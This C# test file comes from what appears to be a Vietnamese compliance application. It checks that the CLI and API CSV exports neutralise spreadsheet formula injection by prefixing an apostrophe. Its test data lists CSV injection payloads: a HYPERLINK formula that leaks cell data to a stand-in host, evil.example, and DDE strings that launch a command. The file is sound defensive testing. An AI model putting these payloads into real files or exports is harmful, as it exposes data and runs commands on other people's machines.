using System.Net;
using System.Net.Http.Headers;
using System.Text;
using QcdcCompliance.Domain;
using QcdcCompliance.Findings;
using QcdcCompliance.Import;
using QcdcCompliance.Import.Files;
using QcdcCompliance.Tests.Api;
using QcdcCompliance.Tests.Infrastructure;

namespace QcdcCompliance.Tests.Reliability;

/// <summary>
/// Units and areas whose names a spreadsheet would run as formulas are flagged, then exported: the CLI's CSV
/// (<see cref="FindingCsv"/>) and the API's <c>text/csv</c> write no cell that starts a formula, and keep the name
/// readable behind the apostrophe that neutralises it.
/// </summary>
public sealed class CsvExportInjectionTests
{
    private static readonly string[] Formulas =
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")", "+1", "@x", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    ];

    [Fact]
    public async Task Formula_looking_names_are_neutralised_in_the_CLI_and_API_CSV_exports()
    {
        var engine = await Engine.SqliteAsync();
        await engine.ImportAsync(ImportKind.Areas, "areas.csv", Province.Areas.Replace("D2,Huyện Hai,", "D2,\"@SUM(1+1)*cmd|' /C calc'!A0\",", StringComparison.Ordinal));
        var units = new StringBuilder(Province.Units);
        for (var i = 0; i < Formulas.Length; i++)
            units.Append($"CQF-{i},\"{Formulas[i].Replace("\"", "\"\"", StringComparison.Ordinal)}\",StateAgency,C{1 + (i % 3)},true,10,,,\n");
        await engine.ImportAsync(ImportKind.Units, "units.csv", units.ToString());
        await engine.LoadTargetSetsAsync();
        await engine.Evaluations.EvaluateAsync("2020S1", null, RunTrigger.Manual);
        await using var bed = await ApiTestbed.StartAsync(engine);

        var cli = FindingCsv.Write(await engine.Findings.ListAsync(new FindingFilter("2020S1")));
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/findings?period=2020S1");
        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
        using var response = await (await bed.AsAsync(Role.Auditor, "P")).SendAsync(request);
        var api = await response.Content.ReadAsByteArrayAsync();

        response.StatusCode.Should().Be(HttpStatusCode.OK);
        api.Should().Equal(Encoding.UTF8.GetBytes(cli), "the API writes the CLI's CSV, byte for byte");
        api.Take(3).Should().Equal([0xEF, 0xBB, 0xBF], "a UTF-8 byte-order mark, so that Excel reads the Vietnamese names right");
        var cells = Cells(cli);
        cells.Should().NotContain(c => c.Length > 0 && "=+-@\t\r".Contains(c[0], StringComparison.Ordinal), "no cell starts a formula");
        var names = cells.Where(c => c.StartsWith('\'')).Select(c => c[1..]).ToHashSet();
        names.Should().Contain([.. Formulas.Select(f => f.Trim()), "@SUM(1+1)*cmd|' /C calc'!A0"],
            "every flagged name is exported behind an apostrophe, and otherwise as written (imports trim tabs and line ends)");
    }

    /// <summary>The cells of a CSV as the product's own reader splits them (quotes, doubled quotes, line breaks inside cells).</summary>
    private static List<string> Cells(string csv)
    {
        var schema = FindingCsv.Header.Split(',').Select(c => new Column(c)).ToList();
        var table = CsvTable.Read("findings.csv", Encoding.UTF8.GetBytes(csv), schema, new ProblemList("findings.csv"));
        var rows = table.Rows.ToList();
        table.Problems.Any.Should().BeFalse(string.Join("; ", table.Problems.Items));
        rows.Should().NotBeEmpty();
        return rows.SelectMany(r => r.Cells).OfType<string>().ToList();
    }
}
